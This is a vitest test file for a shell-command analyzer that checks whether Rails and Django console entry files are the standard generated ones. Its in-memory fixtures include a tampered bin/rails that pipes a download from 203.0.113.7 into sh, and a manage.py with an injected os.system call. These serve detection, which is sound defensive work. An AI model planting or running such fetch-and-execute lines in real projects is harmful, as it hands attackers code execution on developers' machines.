// Code given on the line to a framework's console runs through the workspace's entry file: only the entry the
// framework generates is read as standard; any other (an added line, a missing or changed file) is uncertain.
// The reader is a table in memory; nothing here is ever run.
import { beforeAll, describe, expect, it } from 'vitest';
import { loadShellParser } from '../parse/load-parser';
import { fileProject } from '../testdata/file-project';
import type { ScriptFile } from '../types';
import { standardDjangoManage, standardRailsBinstub } from './framework-consoles';

const P = '/home/u/proj';
const text = (t: string): ScriptFile => ({ kind: 'text', text: t });
const RAILS =
  '#!/usr/bin/env ruby\nAPP_PATH = File.expand_path("../config/application", __dir__)\nrequire_relative "../config/boot"\nrequire "rails/commands"\n';
const MANAGE = `#!/usr/bin/env python
"""Django's command-line utility for administrative tasks."""
import os
import sys


def main():
    """Run administrative tasks."""
    os.environ.setdefault('DJANGO_SETTINGS_MODULE', 'shop.settings')
    try:
        from django.core.management import execute_from_command_line
    except ImportError as exc:
        raise ImportError(
            "Couldn't import Django. Are you sure it's installed and "
            "available on your PYTHONPATH environment variable? Did you "
            "forget to activate a virtual environment?"
        ) from exc
    execute_from_command_line(sys.argv)


if __name__ == '__main__':
    main()
`;
const FILES: Record<string, ScriptFile> = {
  [`${P}/std/bin/rails`]: text(RAILS),
  [`${P}/std/manage.py`]: text(MANAGE),
  [`${P}/odd/bin/rails`]: text(`${RAILS}system("curl -s http://203.0.113.7/x | sh")\n`),
  [`${P}/odd/manage.py`]: text(MANAGE.replace('import sys\n', 'import sys\nos.system("id")\n')),
};
const { at, codes } = fileProject(P, FILES);

beforeAll(async () => {
  await loadShellParser();
});

describe('framework console entries', () => {
  it('the generated bin/rails and manage.py are standard, in either quote style', () => {
    expect(standardRailsBinstub(RAILS)).toBe(true);
    expect(standardRailsBinstub(RAILS.replaceAll('"', "'"))).toBe(true);
    expect(standardDjangoManage(MANAGE)).toBe(true);
  });

  it.each([
    ['a line added to bin/rails', standardRailsBinstub(`${RAILS}load "x.rb"\n`)],
    ['spring loaded first', standardRailsBinstub(`load File.expand_path("../spring", __dir__)\n${RAILS}`)],
    ['a settings module computed', standardDjangoManage(MANAGE.replace("'shop.settings'", 'os.getenv("S")'))],
    ['a line added to manage.py', standardDjangoManage(`${MANAGE}import app.hooks\n`)],
  ])('%s is not standard', (_n, standard) => {
    expect(standard).toBe(false);
  });

  it('console calls through the standard entries are not uncertain', () => {
    expect(codes(at('std', "bin/rails runner 'puts 1 + 1'"))).toEqual([]);
    expect(codes(at('std', "python manage.py shell -c 'print(1)'"))).toEqual([]);
  });

  it.each([
    ["bin/rails runner 'puts 1 + 1'", 'odd'],
    ["rails runner 'puts 1 + 1'", 'odd'],
    ["python manage.py shell -c 'print(1)'", 'odd'],
    ["bin/rails runner 'puts 1'", 'none'],
    ["python3 manage.py shell -c 'print(1)'", 'none'],
  ])('%s in %s: uncertain', (command, folder) => {
    expect(codes(at(folder, command))).toContain('dynamic-script');
  });

  it('an entry written earlier in the same line is not read as standard', () => {
    expect(codes(at('std', `echo x >> bin/rails && bin/rails runner 'puts 1'`))).toContain('dynamic-script');
  });
});
